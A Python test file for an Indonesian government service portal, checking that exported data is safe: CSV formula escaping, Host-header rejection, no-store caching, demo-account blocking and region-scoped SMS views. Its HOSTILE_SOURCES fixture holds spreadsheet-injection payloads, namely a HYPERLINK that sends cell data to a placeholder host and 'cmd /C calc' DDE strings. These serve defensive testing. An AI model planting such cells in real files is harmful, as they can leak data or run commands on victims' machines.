"""Data that leaves the app (issue 14): CSV cells a spreadsheet would run, absolute links taken from the
Host header, personal pages kept in browser caches, demo passwords on a production start, and the demo
SMS outbox of every region shown to every officer."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest
from starlette.testclient import TestClient

from app import create_app
from db.connection import connect
from ops import seed
from services import notifikasi
from services import pemantauan as svc
from services.passwords import hash_password
from tests.conftest import SIGNING_KEY, TEMPLATE_KEY
from tests.helpers import form_fields, login, register, soup, text_of
from tests.test_dokumen import issue
from tests.test_jaminan import AHMAD, AHMAD_REGISTRY_PHONE
from tests.test_permohonan import BUDI, citizen  # noqa: F401 - fixture
from tests.test_ttd import _pdf_text
from web.settings import ConfigError, Settings

CANONICAL = "https://mpp.contoh.go.id"


@pytest.fixture
def settings(settings):
    """The app believes it lives at CANONICAL; the test client still speaks to it as 127.0.0.1 (dev)."""
    return dataclasses.replace(settings, base_url=CANONICAL)


# ------------------------------------------------------------------ CSV: formulas from an imported row

def _upload(client, content: bytes):
    fields = form_fields(client, "/pemantauan/impor", "/pemantauan/impor")
    return client.post("/pemantauan/impor", data=fields, files={"berkas": ("mpp_resmi.csv", content, "text/csv")},
                       follow_redirects=False)


HOSTILE_SOURCES = {
    "1101": '=HYPERLINK("https://contoh.invalid/?d="&A1,"Klik di sini")',
    "1102": "@SUM(1+1)*cmd|' /C calc'!A0",
    "1103": "+62 811 0000 0000",
    "1104": "-2+3+cmd|' /C calc'!A0",
    "1105": "\t=1+1",
    "1106": "\r=1+1",
}


def test_a_formula_in_an_imported_row_reaches_the_public_csv_as_plain_text(client, db):
    rows = [["kode", "status", "tanggal_berdiri", "target_tahun", "sumber"],
            ["2171", "berdiri", "2020-02-20", "", "Keputusan Wali Kota Batam"]]
    rows += [[kode, "target", "", "2027", sumber] for kode, sumber in HOSTILE_SOURCES.items()]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    login(client, "kemenpanrb")
    assert _upload(client, out.getvalue().encode()).status_code == 303
    client.cookies.clear()  # anyone downloads the open data

    r = client.get("/pemantauan/wilayah.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    table = {row[0]: row for row in csv.reader(io.StringIO(r.text, newline=""))}
    header = table["kode"]
    sumber, target, digital = header.index("sumber"), header.index("target_tahun"), header.index("mpp_digital")
    for kode, text in HOSTILE_SOURCES.items():
        assert table[kode][sumber] == "'" + text.strip(), kode  # shown as the text it is, never evaluated
        assert table[kode][target] == "2027"            # numbers stay numbers
    assert table["2171"][sumber] == "Keputusan Wali Kota Batam" and table["2171"][digital] == "1"
    # the export is the shape the import accepts: importing its rows again keeps the sources as they were
    status = header.index("status")
    again = [header] + [row for row in table.values() if row[status] and row is not header]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(again)
    login(client, "kemenpanrb")
    assert _upload(client, out.getvalue().encode()).status_code == 303
    assert db.execute("SELECT sumber FROM mpp_nasional WHERE wilayah_kode = '1101'").fetchone()[0] \
        == HOSTILE_SOURCES["1101"]


def test_numbers_stay_numbers_and_only_text_that_a_spreadsheet_would_run_is_quoted():
    text = svc.to_csv(["a", "b"], [[-3, "-3"], [2.5, "-0.75"], [0, "+62"], [None, "@x"], [True, "a=b"],
                                   ["", "=1"], ["-", "- 3"], ["\tx", "\r=1"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b"], ["-3", "-3"], ["2.5", "-0.75"], ["0", "'+62"], ["", "'@x"], ["True", "a=b"], ["", "'=1"],
        ["'-", "'- 3"], ["'\tx", "'\r=1"]]


# ------------------------------------------------------------------ absolute links and the Host header

def test_a_request_naming_a_foreign_host_is_refused_in_bahasa_indonesia(client):
    r = client.get("/", headers={"Host": "penipu.example"})
    assert r.status_code == 400
    assert "Alamat situs tidak dikenal" in r.text
    assert r.headers["content-security-policy"].startswith("default-src 'self'")
    assert r.headers["x-content-type-options"] == "nosniff"
    assert client.get("/", headers={"Host": "127.0.0.1:8000"}).status_code == 200  # make run, dev


def test_in_production_only_the_canonical_host_is_served(db_path):
    settings = Settings(db_path=db_path, secret_key="k" * 32, https=True, demo=True, base_url=CANONICAL,
                        client_ip_header="fly-client-ip", template_key=TEMPLATE_KEY, signing_key=SIGNING_KEY)
    with TestClient(create_app(settings, quiet=True), base_url=CANONICAL) as c:
        assert c.get("/").status_code == 200
        assert c.get("/", headers={"Host": "127.0.0.1:8080"}).status_code == 400
        assert c.get("/", headers={"Host": "mpp-digital.fly.dev"}).status_code == 400
        # the platform's health check calls the machine by its private address
        assert c.get("/healthz", headers={"Host": "172.19.4.2:8080"}).status_code == 200


def test_the_qr_link_pdf_and_verification_page_name_the_canonical_address(app, citizen, db):  # noqa: F811
    pid, token = issue(app, citizen, db, "akta-kelahiran", {"nama_anak": "Putri Santoso"})
    expected = f"{CANONICAL}/verifikasi/{token}"
    page = citizen.get(f"/permohonan/{pid}/dokumen", headers={"Host": "localhost:8000"})
    assert soup(page).select_one(".small a")["href"] == expected
    pdf = citizen.get(f"/permohonan/{pid}/dokumen.pdf", headers={"Host": "localhost:8000"}).content
    assert expected[:60].encode() in _pdf_text(pdf) and b"localhost" not in _pdf_text(pdf)
    check = citizen.get(f"/verifikasi/{token}", headers={"Host": "localhost"})
    assert expected in text_of(check) and "localhost" not in check.text


def test_the_ticket_qr_names_the_canonical_address(client, db, monkeypatch):
    from routes import antrean
    from tests.test_antrean import MONDAY_9

    encoded = []
    monkeypatch.setattr(antrean, "qr_svg", lambda text: encoded.append(text) or "<svg></svg>")
    monkeypatch.setenv("MPP_NOW", MONDAY_9.isoformat())
    login(client, BUDI)
    fields = form_fields(client, "/mpp/2171/antrean?tanggal=2026-11-30", "/mpp/2171/antrean")
    r = client.post("/mpp/2171/antrean", data={**fields, "jam": "11:00"}, follow_redirects=False)
    assert r.status_code == 303
    client.get(r.headers["location"], headers={"Host": "localhost"})
    assert encoded and encoded[-1].endswith(f" {CANONICAL}{r.headers['location']}")


def test_the_not_me_sms_links_to_the_canonical_address(client, db):
    r = register(client, AHMAD)
    assert r.status_code == 303, text_of(r)[:300]
    sms = db.execute("SELECT isi FROM notifikasi WHERE tujuan = ?", [AHMAD_REGISTRY_PHONE]).fetchone()[0]
    assert re.search(rf"Buka {re.escape(CANONICAL)}/bukan-saya/\S+$", sms), sms


def test_the_canonical_address_is_configured_and_checked_at_start():
    dev = Settings.from_env({"MPP_DB": ":memory:", "MPP_SECRET_KEY": "x", "MPP_TEMPLATE_KEY": "x",
                             "MPP_SIGNING_KEY": "x", "PORT": "8123"})
    assert dev.base_url == "http://127.0.0.1:8123" and dev.url("/verifikasi/x") == "http://127.0.0.1:8123/verifikasi/x"
    assert {"127.0.0.1", "localhost"} <= set(dev.allowed_hosts)
    prod = dict(PRODUCTION_ENV, MPP_ALLOWED_HOSTS="mpp.example.id, www.mpp.example.id")
    settings = Settings.from_env(prod)
    assert settings.base_url == "https://mpp.contoh.go.id"
    assert sorted(settings.allowed_hosts) == ["mpp.contoh.go.id", "mpp.example.id", "www.mpp.example.id"]
    for wrong, says in ((None, "MPP_BASE_URL"), ("http://mpp.contoh.go.id", "https://"),
                        ("https://mpp.contoh.go.id/layanan", "tanpa path"), ("mpp.contoh.go.id", "MPP_BASE_URL")):
        env = {k: v for k, v in PRODUCTION_ENV.items() if k != "MPP_BASE_URL"}
        if wrong:
            env["MPP_BASE_URL"] = wrong
        with pytest.raises(ConfigError, match=re.escape(says)):
            Settings.from_env(env)


# ------------------------------------------------------------------ personal pages are not stored by browsers

def _cache(client, url: str) -> str:
    r = client.get(url, follow_redirects=False)
    assert r.status_code < 500, url
    return r.headers.get("cache-control", "")


def test_personal_pages_are_no_store_and_the_public_catalogue_keeps_its_caching(client, db):
    public = ["/", "/layanan", "/layanan/akta-kelahiran?wilayah=2171", "/mpp/2171", "/pemantauan",
              "/pemantauan/wilayah.csv", "/masuk"]
    for url in public:
        assert "no-store" not in _cache(client, url), url
    css = client.app.state.assets.url("app.css")  # a first visit has it inline (test_static.py)
    assert "immutable" in _cache(client, css)
    assert _cache(client, "/verifikasi/kunci-publik.pem").startswith("public")

    # anonymous, but about one person: a complaint followed with its code, a document, a registration
    fields = form_fields(client, "/pengaduan", "/pengaduan")
    r = client.post("/pengaduan", data={**fields, "wilayah": "2171", "isi": "Loket tutup sebelum jam 15.00."},
                    follow_redirects=False)
    assert "no-store" in r.headers["cache-control"]
    for url in (r.headers["location"], "/verifikasi/bukan-token", "/bukan-saya/bukan-token"):
        assert "no-store" in _cache(client, url), url
    register(client, AHMAD, prove_phone=False)
    assert "no-store" in _cache(client, "/daftar/kode")
    fields = form_fields(client, "/masuk", "/masuk")
    wrong = client.post("/masuk", data={**fields, "login": BUDI, "kata_sandi": "salah"})
    assert wrong.status_code == 400 and "no-store" in wrong.headers["cache-control"]

    # logged in: every page, even the catalogue (it greets the person), but not the shared static files
    for who, urls in ((BUDI, ["/", "/layanan", "/akun", "/permohonan"]),
                      ("dukcapil.batam", ["/petugas", "/petugas/identitas", "/petugas/pengaduan"]),
                      ("admin.batam", ["/admin", "/admin/2171/petugas"]),
                      ("kemenpanrb", ["/pemantauan/kinerja", "/pemantauan/kinerja.csv"])):
        client.cookies.clear()
        login(client, who)
        for url in urls:
            assert "no-store" in _cache(client, url), (who, url)
        assert "immutable" in _cache(client, css)


# ------------------------------------------------------------------ demo passwords on a production start

PRODUCTION_ENV = {"MPP_HTTPS": "1", "MPP_BASE_URL": "https://mpp.contoh.go.id/",
                  "MPP_CLIENT_IP_HEADER": "fly-client-ip", "MPP_SECRET_KEY": "x" * 32,
                  "MPP_TEMPLATE_KEY": TEMPLATE_KEY, "MPP_SIGNING_KEY": SIGNING_KEY,
                  "MPP_DB": ":memory:"}


def test_demo_mode_is_off_on_a_production_start_and_asking_for_it_needs_its_own_switch():
    assert Settings.from_env({k: v for k, v in PRODUCTION_ENV.items() if k != "MPP_HTTPS"} | {
        "MPP_BASE_URL": "http://127.0.0.1:8000"}).demo is True  # make run
    assert Settings.from_env(PRODUCTION_ENV).demo is False
    assert Settings.from_env({**PRODUCTION_ENV, "MPP_DEMO": "0"}).demo is False
    with pytest.raises(ConfigError, match="MPP_DEMO_PRODUCTION=1") as refused:
        Settings.from_env({**PRODUCTION_ENV, "MPP_DEMO": "1"})
    assert "kata sandi" in str(refused.value)
    assert Settings.from_env({**PRODUCTION_ENV, "MPP_DEMO": "1", "MPP_DEMO_PRODUCTION": "1"}).demo is True


def test_a_production_start_creates_no_account_with_the_published_password(tmp_path):
    db_file = tmp_path / "mpp.db"
    settings = Settings.from_env({**PRODUCTION_ENV, "MPP_DB": str(db_file), "MPP_FACE_WARMUP": "0"})
    with TestClient(create_app(settings, quiet=True), base_url=CANONICAL) as c:
        assert c.get("/healthz").status_code == 200
        r = login(c, "kemenpanrb")
        assert r.status_code == 400
    db = connect(db_file)
    try:
        assert db.execute("SELECT count(*) FROM akun").fetchone()[0] == 0
    finally:
        db.conn.close()


def test_a_production_start_on_a_database_seeded_earlier_warns_of_the_demo_accounts(db_path, capsys):
    settings = Settings.from_env({**PRODUCTION_ENV, "MPP_DB": db_path, "MPP_FACE_WARMUP": "0"})
    with TestClient(create_app(settings), base_url=CANONICAL) as c:
        assert c.get("/healthz").status_code == 200
    warning = capsys.readouterr().err
    assert "PERINGATAN" in warning and "kemenpanrb" in warning and seed.DEMO_PASSWORD not in warning


def test_the_seed_command_follows_the_same_rule(tmp_path, monkeypatch, capsys):
    for k, v in PRODUCTION_ENV.items():
        monkeypatch.setenv(k, v)
    db_file = tmp_path / "mpp.db"
    assert seed.main(["--db", str(db_file)]) == 0
    assert seed.DEMO_PASSWORD not in capsys.readouterr().out
    db = connect(db_file)
    try:
        assert db.execute("SELECT count(*) FROM akun").fetchone()[0] == 0
    finally:
        db.conn.close()


# ------------------------------------------------------------------ the demo SMS outbox, per region

def test_the_demo_outbox_shows_an_officer_only_the_messages_of_their_region(client, db):
    budi = dict(db.execute("SELECT id FROM akun WHERE nik = ?", [BUDI]).fetchone())
    aceh = db.execute("INSERT INTO akun (peran, nik, telepon, nama, kata_sandi, wilayah_kode) "
                      "VALUES ('warga', '1101010101900001', '081399990000', 'Warga Simeulue', ?, '1101')",
                      [hash_password("rahasia-aceh")]).lastrowid
    db.conn.commit()
    notifikasi.enqueue_for(db, {"id": budi["id"], "telepon": "081200001111"}, "MPP Digital: pesan untuk Batam.")
    notifikasi.enqueue_for(db, {"id": aceh, "telepon": "081399990000"}, "MPP Digital: pesan untuk Simeulue.")
    notifikasi.enqueue_for(db, {"id": None, "telepon": "081255550000"}, "MPP Digital: kode verifikasi Anda 123456.")

    assert client.get("/demo/pesan", follow_redirects=False).status_code == 303  # anonymous: the login page
    for who in ("dukcapil.batam", "admin.batam"):
        client.cookies.clear()
        login(client, who)
        page = text_of(client.get("/demo/pesan"))
        assert "pesan untuk Batam" in page and "0812****1111" in page, who
        assert "Simeulue" not in page and "123456" not in page and "081399990000" not in page, who
    client.cookies.clear()
    login(client, "kemenpanrb")
    page = text_of(client.get("/demo/pesan"))
    assert "pesan untuk" not in page and "123456" not in page
    assert "per wilayah" in page
